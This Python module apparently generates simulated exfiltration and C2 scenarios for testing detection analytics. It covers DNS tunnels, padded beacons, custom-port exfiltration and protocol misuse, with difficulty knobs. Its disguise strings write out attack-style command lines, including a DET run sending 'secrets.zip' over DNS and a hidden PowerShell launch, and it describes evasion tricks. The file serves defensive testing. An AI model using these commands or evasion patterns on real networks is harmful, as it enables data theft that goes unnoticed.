"""The attack scenarios of the default suite. Each is the office background plus a family of
malicious actors, with the family's difficulty knobs as parameters.

Scenarios and their actors (expected analytics in brackets; the generated catalogue,
``scenarios/CATALOGUE.md``, lists every knob with its default and meaning):

* ``dns-tunnels``: iodine (Base32, NULL, raw socket to an outside resolver), dnscat2 (hex, TXT,
  resolver API), dns2tcp (Base64, TXT, raw socket), DET (hex, A, resolver API) [AN1225].
* ``dns-exfil-evasive``: low-and-slow dnscat2-style exfiltration; low-entropy dictionary-word
  encoding [AN1225].
* ``quiet-process-exfil``: Notepad over HTTPS, rundll32 over DNS, rundll32 over a custom TCP
  port and over a custom UDP port, each after reading documents [AN0988, AN1225, AN0144 /
  AN0030].
* ``staging-and-beacons``: 7-Zip staging then curl upload; HTTP beacon with constant padding;
  HTTPS beacon with random padding [AN0988, AN0144, AN0030, AN1225].
* ``custom-port-exfil``: raw TCP exfil on 4444, raw UDP exfil on 9001, SMB to an outside share
  [AN0030, AN1225].
* ``protocol-anomalies``: plain HTTP on 443, TLS on 53, DNS on 5353, extraneous packets, a
  first-seen process with an encoded command line [AN1962, AN1225].
"""

from __future__ import annotations

import random
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, ClassVar

from harness.events import NS_PER_S, Transport
from scenarios import malicious as mal
from scenarios.encodings import TOOL_QTYPES, TunnelEncoding
from scenarios.knobs import disguise_knob, files_knob, jitter_knob, knob, port_knob, validate
from scenarios.malicious import Disguise
from scenarios.office import AttackScenario, OfficeParams
from scenarios.world import Host, World

__all__ = [
    "AnomalyParams",
    "CustomPortExfil",
    "CustomPortParams",
    "DnsEvasiveParams",
    "DnsExfilEvasive",
    "DnsTunnelParams",
    "DnsTunnels",
    "ProtocolAnomalies",
    "QuietParams",
    "QuietProcessExfil",
    "StagingAndBeacons",
    "StagingBeaconParams",
]


def _qtypes(encoding: TunnelEncoding) -> tuple[str, ...]:
    return tuple(q for q in TOOL_QTYPES[encoding])


def _temp_tool(host: Host, name: str, args: str = "") -> Disguise:
    image = rf"C:\Users\{host.user}\AppData\Local\Temp\{name}"
    return Disguise(image=image, command_line=f"{image} {args}".strip())


# -- DNS tunnels -------------------------------------------------------------------------------


_CODEC = {"iodine-base32": "Base32", "iodine-base64": "Base64", "iodine-base128": "Base128"}
_IODINE = (
    TunnelEncoding.IODINE_BASE32.value,
    TunnelEncoding.IODINE_BASE64.value,
    TunnelEncoding.IODINE_BASE128.value,
)


@dataclass(frozen=True, slots=True, kw_only=True)
class DnsTunnelParams(OfficeParams):
    total_bytes: int = knob(
        200_000, "Payload each tunnel moves, bytes.", low=1, high=10**9, test_range=(1, 3_000)
    )
    queries_per_s: float = knob(
        5.0, "Query rate of each tunnel, queries per second.", low=1e-4, high=1e4,
        test_range=(0.5, 50),
    )  # fmt: skip
    jitter: float = jitter_knob(0.5, "the gap between queries")
    chunk_bytes: int = knob(
        0,
        "Payload bytes per query name; 0: the tool's default; capped at what a name can hold.",
        low=0,
        high=255,
        test_range=(0, 200),
    )
    pings: bool = knob(True, "iodine sends keep-alive queries between data queries.")
    ping_interval_s: float = knob(
        4.0, "iodine keep-alive interval, seconds (iodine pings every 4 s when idle).",
        low=0.5, high=3_600, test_range=(1, 30),
    )  # fmt: skip
    iodine_encoding: str = knob("iodine-base32", "iodine's upstream codec.", choices=_IODINE)
    iodine_qtype: str = knob(
        "NULL", "iodine's record type.", choices=_qtypes(TunnelEncoding.IODINE_BASE32)
    )
    iodine_outside_resolver: bool = knob(
        True, "iodine sends its raw-socket queries straight to an outside server (else to the "
        "internal resolver).",
    )  # fmt: skip
    dnscat2_qtype: str = knob(
        "TXT", "dnscat2's record type.", choices=_qtypes(TunnelEncoding.DNSCAT2_HEX)
    )
    dnscat2_via_api: bool = knob(
        True, "dnscat2 resolves through the OS resolver API (Sysmon 22 names the process); "
        "False: raw UDP/53 from its own socket.",
    )  # fmt: skip
    dns2tcp_qtype: str = knob(
        "TXT", "dns2tcp's record type.", choices=_qtypes(TunnelEncoding.DNS2TCP_BASE64)
    )
    det_files_read: int = files_knob(30, "the DET exfiltrator")
    disguise: str = disguise_knob("every tunnel client")

    def __post_init__(self) -> None:
        validate(self)


class DnsTunnels(AttackScenario):
    id: ClassVar[str] = "dns-tunnels"
    description: ClassVar[str] = "DNS tunnels in the styles of iodine, dnscat2, dns2tcp and DET"
    Params: ClassVar[type[Any]] = DnsTunnelParams
    victims: ClassVar[int] = 4
    difficulty: ClassVar[Mapping[str, tuple[Any, ...]]] = {
        "queries_per_s": (5.0, 1.0, 0.2, 0.05),
        "total_bytes": (200_000, 20_000, 2_000),
    }

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 4)
        common = {
            "total_bytes": params.total_bytes,
            "queries_per_s": params.queries_per_s,
            "jitter": params.jitter,
            "chunk_bytes": params.chunk_bytes,
        }

        def who(host: Host, default: Disguise, tool: str) -> Disguise:
            return mal.disguise(params.disguise, host, default, tool)

        mal.dns_tunnel(
            world,
            rng,
            actor_id="iodine-tunnel",
            description=f"iodine-style tunnel: {_CODEC[params.iodine_encoding]} names, "
            f"{params.iodine_qtype} records, pings, raw socket "
            + (
                "straight to an outside resolver"
                if params.iodine_outside_resolver
                else "to the internal resolver"
            ),
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            who=who(
                hosts[0], _temp_tool(hosts[0], "iodine.exe", "-f -r t1.tunnel-a.example"), "iod.exe"
            ),
            encoding=TunnelEncoding(params.iodine_encoding),
            domain="t1.tunnel-a.example",
            qtype=params.iodine_qtype,
            via_api=False,
            direct_resolver="198.51.100.53" if params.iodine_outside_resolver else None,
            ping_interval_s=params.ping_interval_s if params.pings else 0.0,
            **common,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="dnscat2-tunnel",
            description=f"dnscat2-style C2: hex names, {params.dnscat2_qtype} records, "
            + ("through the resolver API" if params.dnscat2_via_api else "raw socket"),
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=who(
                hosts[1],
                Disguise(
                    image=r"C:\ProgramData\Intel\igfxsvc.exe",
                    command_line=r"C:\ProgramData\Intel\igfxsvc.exe --dns "
                    "domain=c2.example-cdn.example",
                ),
                "igfxsvc.exe",
            ),
            encoding=TunnelEncoding.DNSCAT2_HEX,
            domain="c2.example-cdn.example",
            qtype=params.dnscat2_qtype,
            via_api=params.dnscat2_via_api,
            **common,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="dns2tcp-tunnel",
            description=f"dns2tcp-style tunnel: Base64 names, {params.dns2tcp_qtype} records, "
            "raw socket to the internal resolver",
            host=hosts[2],
            start_ns=self.attack_time(world, rng),
            who=who(
                hosts[2],
                _temp_tool(hosts[2], "dns2tcpc.exe", "-z dl.tcp-over.example -l 8080"),
                "dns2tcpc.exe",
            ),
            encoding=TunnelEncoding.DNS2TCP_BASE64,
            domain="dl.tcp-over.example",
            qtype=params.dns2tcp_qtype,
            via_api=False,
            **common,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="det-exfil",
            description="DET-style exfiltration: hex in full 63-character labels, A queries"
            + (", after reading documents" if params.det_files_read else ""),
            host=hosts[3],
            start_ns=self.attack_time(world, rng),
            who=who(
                hosts[3],
                Disguise(
                    image=r"C:\Python311\python.exe",
                    command_line=r"python.exe det.py -c config.json -p dns -f secrets.zip",
                ),
                "det.exe",
            ),
            encoding=TunnelEncoding.DET_HEX,
            domain="x.exfil-det.example",
            files_read=params.det_files_read,
            **common,
        )


# -- evasive DNS exfiltration ------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class DnsEvasiveParams(OfficeParams):
    total_bytes: int = knob(
        20_000, "Payload each actor moves, bytes.", low=1, high=10**9, test_range=(1, 1_500)
    )
    slow_queries_per_s: float = knob(
        1 / 30, "Query rate of the low-and-slow actor, queries per second.", low=1e-5, high=1e3,
        test_range=(0.05, 2),
    )  # fmt: skip
    words_queries_per_s: float = knob(
        0.5, "Query rate of the low-entropy actor, queries per second.", low=1e-5, high=1e3,
        test_range=(0.1, 5),
    )  # fmt: skip
    jitter: float = jitter_knob(0.5, "the gap between queries")
    chunk_bytes: int = knob(
        0,
        "Payload bytes per query name; 0: as many as the tool puts in one; capped at what a "
        "name can hold.",
        low=0,
        high=255,
        test_range=(0, 120),
    )
    slow_qtype: str = knob(
        "TXT", "Record type of the low-and-slow actor.", choices=_qtypes(TunnelEncoding.DNSCAT2_HEX)
    )
    slow_via_api: bool = knob(
        True, "The low-and-slow actor resolves through the OS resolver API (else raw UDP/53)."
    )
    files_read: int = files_knob(0, "each actor")
    disguise: str = disguise_knob("both actors")

    def __post_init__(self) -> None:
        validate(self)


class DnsExfilEvasive(AttackScenario):
    id: ClassVar[str] = "dns-exfil-evasive"
    description: ClassVar[str] = (
        "Low-and-slow DNS exfiltration and a low-entropy word encoding built to evade lexical rules"
    )
    Params: ClassVar[type[Any]] = DnsEvasiveParams
    victims: ClassVar[int] = 2
    difficulty: ClassVar[Mapping[str, tuple[Any, ...]]] = {
        "slow_queries_per_s": (1 / 30, 1 / 120, 1 / 600),
        "total_bytes": (20_000, 5_000, 1_000),
    }

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 2)
        slow_default = Disguise(
            image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            command_line="powershell.exe -nop -w hidden -f C:\\Users\\Public\\s.ps1",
            signer="Microsoft Windows",
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="low-and-slow-dns",
            description=f"dnscat2-style hex exfiltration at one query every "
            f"~{1 / params.slow_queries_per_s:.0f} s, "
            + ("resolver API" if params.slow_via_api else "raw socket"),
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(params.disguise, hosts[0], slow_default, "s.exe"),
            encoding=TunnelEncoding.DNSCAT2_HEX,
            domain="s.slowdrip.example",
            qtype=params.slow_qtype,
            via_api=params.slow_via_api,
            total_bytes=params.total_bytes,
            queries_per_s=params.slow_queries_per_s,
            jitter=params.jitter,
            chunk_bytes=params.chunk_bytes,
            files_read=params.files_read,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="low-entropy-dns",
            description="Exfiltration in dictionary words (one word per byte) under A queries",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(
                params.disguise,
                hosts[1],
                _temp_tool(hosts[1], "OfficeClickToRunHelper.exe"),
                "OfficeClickToRunHelper.exe",
            ),
            encoding=TunnelEncoding.WORDS,
            domain="news.wordfeed.example",
            text_payload=True,
            total_bytes=params.total_bytes,
            queries_per_s=params.words_queries_per_s,
            jitter=params.jitter,
            chunk_bytes=params.chunk_bytes,
            files_read=params.files_read,
        )


# -- quiet processes after file access ---------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class QuietParams(OfficeParams):
    total_bytes: int = knob(
        8_000_000,
        "Bytes each HTTPS/TCP/UDP actor sends (the DNS actor sends a fortieth of it).",
        low=1,
        high=10**10,
        test_range=(1, 2_000_000),
    )
    chunk_bytes: int = knob(
        250_000, "Bytes per connection (HTTPS/TCP) or datagram burst (UDP).", low=1,
        high=10**10, test_range=(50_000, 1_000_000),
    )  # fmt: skip
    interval_s: float = knob(
        5.0, "Seconds between sends.", low=0.01, high=86_400, test_range=(0.5, 30)
    )
    jitter: float = jitter_knob(0.3)
    dns_queries_per_s: float = knob(
        5.0, "Query rate of the DNS actor, queries per second.", low=1e-4, high=1e4,
        test_range=(0.5, 20),
    )  # fmt: skip
    files_read: int = files_knob(120, "each actor")
    port: int = port_knob(8081, "Custom port of the TCP variant.")
    udp_port: int = port_knob(7001, "Custom port of the UDP variant.")
    disguise: str = disguise_knob("every actor")

    def __post_init__(self) -> None:
        validate(self)


class QuietProcessExfil(AttackScenario):
    id: ClassVar[str] = "quiet-process-exfil"
    description: ClassVar[str] = (
        "Normally quiet processes (notepad, rundll32) send data after reading documents"
    )
    Params: ClassVar[type[Any]] = QuietParams
    victims: ClassVar[int] = 4
    difficulty: ClassVar[Mapping[str, tuple[Any, ...]]] = {
        "total_bytes": (8_000_000, 1_000_000, 100_000),
        "files_read": (120, 10, 1),
    }

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 3)
        notepad = Disguise(
            image=r"C:\Windows\System32\notepad.exe",
            command_line="notepad.exe",
            signer="Microsoft Windows",
        )
        rundll = Disguise(
            image=r"C:\Windows\System32\rundll32.exe",
            command_line=r"rundll32.exe C:\Users\Public\lib.dll,Start",
            signer="Microsoft Windows",
        )
        variants = (
            ("notepad-https", hosts[0], notepad, "https", 443),
            ("rundll32-dns", hosts[1], rundll, "dns", 53),
            ("rundll32-tcp", hosts[2], rundll, "tcp", params.port),
        )
        for actor_id, host, who, channel, port in variants:
            self._actor(world, rng, params, actor_id, host, who, channel, port)
        # Added after the others, from the same stream, so it leaves their draws unchanged.
        others = [h for h in world.env.workstations if h not in hosts]
        self._actor(
            world, rng, params, "rundll32-udp", rng.choice(others), rundll, "udp", params.udp_port
        )

    def _actor(
        self,
        world: World,
        rng: random.Random,
        params: Any,
        actor_id: str,
        host: Host,
        who: Disguise,
        channel: str,
        port: int,
    ) -> None:
        name = who.image.rsplit("\\", 1)[-1].lower()
        mal.quiet_process_exfil(
            world,
            rng,
            actor_id=actor_id,
            description=f"{who.command_line.split()[0]} reads documents, then sends them "
            f"over {channel.upper()}" + (f" port {port}" if channel in ("tcp", "udp") else ""),
            host=host,
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(params.disguise, host, who, name),
            channel=channel,
            port=port,
            files_read=params.files_read,
            jitter=params.jitter,
            chunk_bytes=params.chunk_bytes,
            interval_s=params.interval_s,
            dns_queries_per_s=params.dns_queries_per_s,
            total_bytes=params.total_bytes
            if channel != "dns"
            else max(1, params.total_bytes // 40),
        )


# -- staging and beacons -----------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class StagingBeaconParams(OfficeParams):
    archive_bytes: int = knob(
        60_000_000, "Size of the staged archive curl uploads, bytes.", low=1, high=10**11,
        test_range=(1, 5_000_000),
    )  # fmt: skip
    archive_chunk_bytes: int = knob(
        5_000_000, "Bytes per upload request.", low=1, high=10**10,
        test_range=(100_000, 5_000_000),
    )  # fmt: skip
    archive_files_read: int = files_knob(300, "7-Zip")
    upload_interval_s: float = knob(
        3.0, "Seconds between upload requests.", low=0.01, high=86_400, test_range=(0.5, 30)
    )
    upload_jitter: float = jitter_knob(0.3, "the gap between upload requests")
    upload_port: int = port_knob(443, "Port of the HTTPS upload.")
    beacon_interval_s: float = knob(
        60.0, "Seconds between beacons.", low=0.1, high=86_400, test_range=(10, 600)
    )
    beacon_jitter: float = jitter_knob(0.2, "the beacon period")
    padding_bytes: int = knob(
        20_000,
        "Junk padding per beacon request, bytes (the random-padding beacon draws 0 to twice this).",
        low=0,
        high=10**8,
        test_range=(0, 50_000),
    )
    beacon_response_bytes: int = knob(
        300, "Bytes of each beacon response (plus up to 40).", low=0, high=10**8,
        test_range=(0, 5_000),
    )  # fmt: skip
    beacon_duration_s: float = knob(
        6 * 3600.0, "How long each beacon runs, seconds.", low=1, high=86_400,
        test_range=(60, 3_600),
    )  # fmt: skip
    beacon_port: int = port_knob(80, "Port of the plain-HTTP beacon.")
    beacon_tls_port: int = port_knob(443, "Port of the HTTPS beacon.")
    disguise: str = disguise_knob("both beacons")

    def __post_init__(self) -> None:
        validate(self)


class StagingAndBeacons(AttackScenario):
    id: ClassVar[str] = "staging-and-beacons"
    description: ClassVar[str] = (
        "Archive staging then upload, and C2 beacons padded with junk data (constant and random)"
    )
    Params: ClassVar[type[Any]] = StagingBeaconParams
    victims: ClassVar[int] = 3
    difficulty: ClassVar[Mapping[str, tuple[Any, ...]]] = {
        "padding_bytes": (20_000, 2_000, 200, 0),
        "archive_bytes": (60_000_000, 6_000_000, 600_000),
    }

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 3)
        mal.archive_then_upload(
            world,
            rng,
            actor_id="archive-staging",
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            total_bytes=params.archive_bytes,
            chunk_bytes=params.archive_chunk_bytes,
            files_read=params.archive_files_read,
            interval_s=params.upload_interval_s,
            jitter=params.upload_jitter,
            port=params.upload_port,
        )
        beacon = {
            "interval_s": params.beacon_interval_s,
            "jitter": params.beacon_jitter,
            "padding_bytes": params.padding_bytes,
            "duration_s": params.beacon_duration_s,
            "response_bytes": params.beacon_response_bytes,
        }
        mal.padded_beacon(
            world,
            rng,
            actor_id="beacon-constant-padding",
            description=f"HTTP beacon with constant junk padding on port {params.beacon_port}",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(
                params.disguise,
                hosts[1],
                Disguise(
                    image=r"C:\ProgramData\Microsoft\Network\netsvc.exe",
                    command_line=r"C:\ProgramData\Microsoft\Network\netsvc.exe -k",
                ),
                "netsvc.exe",
            ),
            port=params.beacon_port,
            **beacon,
        )
        mal.padded_beacon(
            world,
            rng,
            actor_id="beacon-random-padding",
            description="HTTPS beacon with random-length junk padding on port "
            f"{params.beacon_tls_port}",
            host=hosts[2],
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(
                params.disguise,
                hosts[2],
                _temp_tool(hosts[2], "msedgeupdate.exe", "/svc"),
                "msedgeupdate.exe",
            ),
            random_padding=True,
            tls=True,
            port=params.beacon_tls_port,
            domain="api.weather-widget.example",
            **beacon,
        )


# -- custom ports ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class CustomPortParams(OfficeParams):
    total_bytes: int = knob(
        80_000_000, "Bytes each raw actor sends (the SMB actor sends half).", low=1,
        high=10**11, test_range=(1, 5_000_000),
    )  # fmt: skip
    chunk_bytes: int = knob(
        4_000_000, "Bytes per raw TCP connection or UDP burst.", low=1, high=10**10,
        test_range=(100_000, 4_000_000),
    )  # fmt: skip
    interval_s: float = knob(
        10.0, "Seconds between raw sends.", low=0.01, high=86_400, test_range=(0.5, 60)
    )
    jitter: float = jitter_knob(0.3)
    tcp_port: int = port_knob(4444, "Port of the raw TCP exfiltration.")
    udp_port: int = port_knob(9001, "Port of the raw UDP exfiltration.")
    files_read: int = files_knob(0, "each raw exfiltrator")
    smb_files_read: int = files_knob(40, "the SMB copy")
    smb_chunk_bytes: int = knob(
        3_000_000, "Bytes per SMB write burst.", low=1, high=10**10,
        test_range=(100_000, 3_000_000),
    )  # fmt: skip
    disguise: str = disguise_knob("both raw exfiltrators")

    def __post_init__(self) -> None:
        validate(self)


class CustomPortExfil(AttackScenario):
    id: ClassVar[str] = "custom-port-exfil"
    description: ClassVar[str] = (
        "Raw TCP and UDP exfiltration on custom ports, and SMB to an outside share"
    )
    Params: ClassVar[type[Any]] = CustomPortParams
    victims: ClassVar[int] = 3
    difficulty: ClassVar[Mapping[str, tuple[Any, ...]]] = {
        "total_bytes": (80_000_000, 8_000_000, 800_000),
        "chunk_bytes": (4_000_000, 400_000, 40_000),
    }

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 3)
        common = {
            "total_bytes": params.total_bytes,
            "chunk_bytes": params.chunk_bytes,
            "interval_s": params.interval_s,
            "jitter": params.jitter,
            "files_read": params.files_read,
        }
        mal.raw_exfil(
            world,
            rng,
            actor_id="raw-tcp-exfil",
            description=f"Raw TCP exfiltration to port {params.tcp_port}",
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(
                params.disguise,
                hosts[0],
                _temp_tool(hosts[0], "svchost.exe", "-k netsvcs"),
                "svchost.exe",
            ),
            transport=Transport.TCP,
            port=params.tcp_port,
            **common,
        )
        mal.raw_exfil(
            world,
            rng,
            actor_id="raw-udp-exfil",
            description=f"Raw UDP exfiltration to port {params.udp_port}",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=mal.disguise(
                params.disguise,
                hosts[1],
                Disguise(
                    image=r"C:\ProgramData\Oracle\Java\javaw.exe",
                    command_line=r"javaw.exe -jar C:\ProgramData\Oracle\Java\upd.jar",
                ),
                "javaw.exe",
            ),
            transport=Transport.UDP,
            port=params.udp_port,
            **common,
        )
        mal.external_smb(
            world,
            rng,
            actor_id="external-smb",
            host=hosts[2],
            start_ns=self.attack_time(world, rng),
            total_bytes=max(1, params.total_bytes // 2),
            files_read=params.smb_files_read,
            chunk_bytes=params.smb_chunk_bytes,
        )


# -- protocol anomalies ------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class AnomalyParams(OfficeParams):
    sessions: int = knob(
        40, "C2 sessions of each protocol-misuse actor.", low=1, high=10**6, test_range=(1, 20)
    )
    interval_s: float = knob(
        120.0, "Seconds between misuse sessions.", low=0.01, high=86_400, test_range=(1, 600)
    )
    jitter: float = jitter_knob(0.3, "the gap between misuse sessions")
    http_port: int = port_knob(
        443, "Port the plain-HTTP C2 uses (not an HTTP port).", exclude=(80, 8000, 8008, 8080)
    )
    tls_port: int = port_knob(
        53, "Port the TLS C2 uses (not a TLS port).", exclude=(443, 465, 636, 853, 993, 995, 8443)
    )
    dns_port: int = port_knob(5353, "Port the DNS C2 uses (not 53).", exclude=(53,))
    anomaly_count: int = knob(
        25, "Extraneous or malformed packets sent.", low=1, high=10**6, test_range=(1, 20)
    )
    anomaly_interval_s: float = knob(
        300.0, "Mean seconds between extraneous packets.", low=0.01, high=86_400,
        test_range=(1, 600),
    )  # fmt: skip
    first_seen_connections: int = knob(
        12, "Connections the first-seen process opens.", low=1, high=10**6, test_range=(1, 12)
    )
    first_seen_interval_s: float = knob(
        300.0, "Seconds between them.", low=0.01, high=86_400, test_range=(1, 600)
    )
    office_parent: bool = knob(
        True, "The first-seen process is launched by Word (the phishing precursor); False: by "
        "Explorer.",
    )  # fmt: skip
    disguise: str = disguise_knob("the protocol-misuse actors")

    def __post_init__(self) -> None:
        validate(self)


class ProtocolAnomalies(AttackScenario):
    id: ClassVar[str] = "protocol-anomalies"
    description: ClassVar[str] = (
        "Protocols on ports that belong to others, extraneous packets, and a first-seen process"
    )
    Params: ClassVar[type[Any]] = AnomalyParams
    victims: ClassVar[int] = 5
    difficulty: ClassVar[Mapping[str, tuple[Any, ...]]] = {
        "sessions": (40, 10, 2),
        "anomaly_count": (25, 5, 1),
    }

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 5)
        for host, variant, tool, port in (
            (hosts[0], "http-on-443", "wuauclt64.exe", params.http_port),
            (hosts[1], "tls-on-53", "dnsproxy.exe", params.tls_port),
            (hosts[2], "dns-on-odd-port", "mdnsresp.exe", params.dns_port),
        ):
            mal.protocol_misuse(
                world,
                rng,
                actor_id=variant,
                host=host,
                start_ns=self.attack_time(world, rng),
                who=mal.disguise(params.disguise, host, _temp_tool(host, tool), tool),
                variant=variant,
                port=port,
                sessions=params.sessions,
                interval_s=params.interval_s,
                jitter=params.jitter,
            )
        mal.extraneous_packets(
            world,
            rng,
            actor_id="extraneous-packets",
            host=hosts[3],
            start_ns=self.attack_time(world, rng),
            count=params.anomaly_count,
            interval_s=params.anomaly_interval_s,
        )
        mal.suspicious_first_seen(
            world,
            rng,
            actor_id="first-seen-encoded-cmd",
            host=hosts[4],
            start_ns=self.attack_time(world, rng) + NS_PER_S,
            connections=params.first_seen_connections,
            interval_s=params.first_seen_interval_s,
            office_parent=params.office_parent,
        )
